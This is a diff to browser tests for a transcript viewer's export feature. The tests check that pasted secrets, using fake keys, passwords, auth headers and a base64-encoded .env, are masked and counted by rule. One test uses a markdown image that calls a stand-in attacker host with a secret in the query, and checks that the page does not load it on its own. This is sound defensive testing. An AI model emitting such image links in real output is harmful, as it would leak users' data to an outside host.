@@ -176,7 +176,7 @@ test('export_masks_secrets_by_default: the CLI export shows how many, and --no-m
   const view = await new TranscriptPage(page).goto(exported.url);
   await expect(page.getByTestId('secrets-masked')).toHaveText('2 secrets masked');
   await expect(view.message('e0')).toContainText('GH_TOKEN=[masked: github-pat]');
-  await expect(view.message('e0')).toContainText('DATABASE_PASSWORD=[masked: generic-api-key]');
+  await expect(view.message('e0')).toContainText('DATABASE_PASSWORD=[masked: dotenv-secret]');
 
   const dir = test.info().outputPath('export');
   const output = path.join(dir, 'kept.html');
@@ -202,7 +202,7 @@ test('export_masks_secrets_by_default: the file view downloads masked, says how 
   };
 
   const masked = await download('masked.html');
-  await expect(page.getByTestId('download-status')).toHaveText('masked 2 secrets (1 generic-api-key, 1 github-pat)');
+  await expect(page.getByTestId('download-status')).toHaveText('masked 2 secrets (1 dotenv-secret, 1 github-pat)');
   const html = readFileSync(masked, 'utf8');
   expect(html).not.toContain(GITHUB_PAT);
   expect(html).not.toContain(DB_PASSWORD);
@@ -215,4 +215,49 @@ test('export_masks_secrets_by_default: the file view downloads masked, says how 
   const kept = await download('kept.html');
   await expect(page.getByTestId('download-status')).toHaveText('secrets not masked');
   expect(readFileSync(kept, 'utf8')).toContain(GITHUB_PAT);
+});
+
+// What people paste (docs/security.md "What an export masks"): shaped like
+// the real thing, each masked in the download and named in its count.
+const PASTED = [
+  'found these: 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, sk_live_4eC39HqLyjWDarjtT1zdp7dc.',
+  'the database is postgres://app:pl41n-pass@db.internal:5432/app',
+  "curl -H 'Content-Type: application/json' -H 'X-Api-Key: plainkey123' -H 'Authorization: Bearer tok.plain-123' https://api.example",
+  'PASSWORD=hunter2',
+  'mysql -u root -pSummer2024 app',
+  `base64 of .env: ${Buffer.from('DB_PASSWORD=letmein\nAPI_TOKEN=abc\n').toString('base64')}`,
+].join('\n');
+const PASTED_SECRETS = ['sk-F1LlqsajAIx', 'sk_live_4eC39', 'pl41n-pass', 'plainkey123', 'tok.plain-123', 'hunter2', 'Summer2024',
+  Buffer.from('DB_PASSWORD=letmein\nAPI_TOKEN=abc\n').toString('base64')];
+
+test('export_masks_for_recall: the download masks what people paste and names each rule', async ({ page, app, serveFile }) => {
+  const messages = session(8, 'p');
+  messages[0].content = PASTED;
+  const live = await TranscriptPage.openFile(page, app, serveFile({ name: 'pasted.json', text: JSON.stringify({ messages }) }));
+  await live.message('p0').waitFor();
+  const [file] = await Promise.all([page.waitForEvent('download'), page.getByTestId('download-html').click()]);
+  const saved = test.info().outputPath('pasted.html');
+  await file.saveAs(saved);
+  const html = readFileSync(saved, 'utf8');
+  for (const secret of PASTED_SECRETS) expect(html, secret).not.toContain(secret);
+  const status = await page.getByTestId('download-status').innerText();
+  for (const rule of ['openai-api-key', 'stripe-access-token', 'url-credentials', 'curl-auth-header',
+    'authorization-header', 'dotenv-secret', 'mysql-password', 'base64-encoded']) {
+    expect(status, rule).toContain(rule);
+  }
+});
+
+test('an exported page fetches no image of another host: its placeholder opens the image in a new tab', async ({ page }) => {
+  const messages = session(8, 'x');
+  messages[0].content = 'Prompt 1: look ![](https://evil.example/?d=SECRET)';
+  const exported = exportFile('remote.json', JSON.stringify({ messages }));
+  const requests = watchNetwork(page);
+  const view = await new TranscriptPage(page).goto(exported.url);
+  await view.message('x0').waitFor();
+  const link = page.getByRole('link', { name: 'Open image from evil.example' });
+  await expect(link).toHaveAttribute('href', 'https://evil.example/?d=SECRET');
+  await expect(link).toHaveAttribute('target', '_blank');
+  await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
+  await page.waitForTimeout(500);
+  expect(requests, 'network requests').toEqual([]);
 });
